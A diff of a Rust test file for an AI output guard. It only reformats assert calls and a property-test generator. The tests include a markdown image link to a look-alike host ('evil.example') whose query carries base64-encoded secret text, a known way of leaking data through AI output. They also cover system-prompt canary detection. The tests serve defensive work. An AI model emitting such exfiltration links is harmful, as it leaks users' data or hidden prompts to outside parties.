@@ -123,10 +123,16 @@ fn ordinary_links_and_allowlisted_hosts_pass() {
         ..OutputConfig::default()
     });
     let text = "![](https://img.example.com/c.png?d=U2VjcmV0IHBsYW5zIGZvciBRMw==)";
-    assert_eq!(g.check_output(&Context::new(), text).action(), Action::Allow);
+    assert_eq!(
+        g.check_output(&Context::new(), text).action(),
+        Action::Allow
+    );
     // A look-alike suffix is not the allowed host.
     let text = "![](https://img.example.com.evil.example/c.png?d=U2VjcmV0IHBsYW5zIGZvciBRMw==)";
-    assert_eq!(g.check_output(&Context::new(), text).action(), Action::Redact);
+    assert_eq!(
+        g.check_output(&Context::new(), text).action(),
+        Action::Redact
+    );
 }
 
 // ---- system-prompt leaks ----
@@ -154,7 +160,11 @@ fn leak_canary_verbatim_with_separators_case_and_encoding() {
     ] {
         let v = g.check_output(&Context::new(), &leak);
         assert!(v.is_blocked(), "{leak}");
-        assert!(ids(&v).contains(&"leak.canary"), "{leak}: {:?}", v.findings());
+        assert!(
+            ids(&v).contains(&"leak.canary"),
+            "{leak}: {:?}",
+            v.findings()
+        );
     }
     // Another canary (not planted here) is not this prompt's.
     let other = Canary::generate();
@@ -225,7 +235,10 @@ fn answer_length_limits_in_characters_and_tokens() {
         max_tokens: Some(10),
         ..OutputConfig::default()
     });
-    assert_eq!(ids(&g.check_output(&Context::new(), &long)), ["length.tokens"]);
+    assert_eq!(
+        ids(&g.check_output(&Context::new(), &long)),
+        ["length.tokens"]
+    );
 }
 
 #[test]
@@ -322,7 +335,11 @@ fn stream_blocks_on_a_canary_before_releasing_any_of_it() {
         };
         assert_eq!(verdict.kind(), CheckKind::Output);
         assert!(verdict.is_blocked());
-        assert!(verdict.reason().starts_with("leak.canary"), "{}", verdict.reason());
+        assert!(
+            verdict.reason().starts_with("leak.canary"),
+            "{}",
+            verdict.reason()
+        );
         assert!(intro.starts_with(&shown), "released {shown:?}");
     }
 }
@@ -417,15 +434,21 @@ const PIECES: &[&str] = &[
 ];
 
 fn answer() -> impl Strategy<Value = String> {
-    prop::collection::vec((0..PIECES.len(), prop::sample::select(vec![" ", "\n", "  ", "\n\n"])), 1..14)
-        .prop_map(|parts| {
-            let mut s = String::new();
-            for (i, sep) in parts {
-                s.push_str(PIECES[i]);
-                s.push_str(sep);
-            }
-            s
-        })
+    prop::collection::vec(
+        (
+            0..PIECES.len(),
+            prop::sample::select(vec![" ", "\n", "  ", "\n\n"]),
+        ),
+        1..14,
+    )
+    .prop_map(|parts| {
+        let mut s = String::new();
+        for (i, sep) in parts {
+            s.push_str(PIECES[i]);
+            s.push_str(sep);
+        }
+        s
+    })
 }
 
 fn chunked(text: &str, sizes: &[usize]) -> Vec<String> {
